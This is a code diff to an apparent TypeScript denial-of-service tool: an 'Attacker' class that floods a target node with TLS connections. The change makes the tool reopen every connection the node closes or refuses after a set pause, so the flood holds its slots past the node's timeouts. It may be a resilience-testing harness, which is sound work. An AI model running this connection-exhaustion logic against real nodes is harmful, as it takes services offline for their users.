@@ -20,6 +20,11 @@ export interface AttackOptions {
   perSourceAddress: number;
   /** Connections opened at once: what the listen backlog takes without dropping SYNs. */
   batchSize: number;
+  /**
+   * A connection the node closes (or refuses) is opened again after this pause while the
+   * attack runs, so the attack holds its connections past any deadline; undefined: never.
+   */
+  reopenAfterMs: number | undefined;
 }
 
 /** A connection attempt gives up after this, so a node that never answers cannot stall the attack. */
@@ -94,6 +99,7 @@ export class Attacker {
       ({ socket } = await connectTls(this.options.target, { identity, timeoutMs: attemptTimeoutMs, tls: { localAddress, secureContext } as tls.ConnectionOptions }));
     } catch {
       this.failedAttempts += 1;
+      this.reopenLater(slot);
       return;
     }
     if (!this.running) {
@@ -107,7 +113,9 @@ export class Attacker {
     socket.resume();
     const closed = new Promise<void>((resolve) => socket.once('close', resolve));
     void closed.then(() => {
-      if (this.sockets.delete(socket)) this.closedByTarget += 1;
+      if (!this.sockets.delete(socket)) return;
+      this.closedByTarget += 1;
+      this.reopenLater(slot);
     });
     if (this.options.mode === 'silent') return;
     socket.write(helloFrame(identity));
@@ -118,5 +126,13 @@ export class Attacker {
       await Promise.race([flushed, closed, new Promise((resolve) => (timer = setTimeout(resolve, attemptTimeoutMs)))]);
       clearTimeout(timer);
     }
+  }
+
+  private reopenLater(slot: number): void {
+    const { reopenAfterMs } = this.options;
+    if (!this.running || reopenAfterMs === undefined) return;
+    setTimeout(() => {
+      if (this.running) void this.open(slot);
+    }, reopenAfterMs);
   }
 }
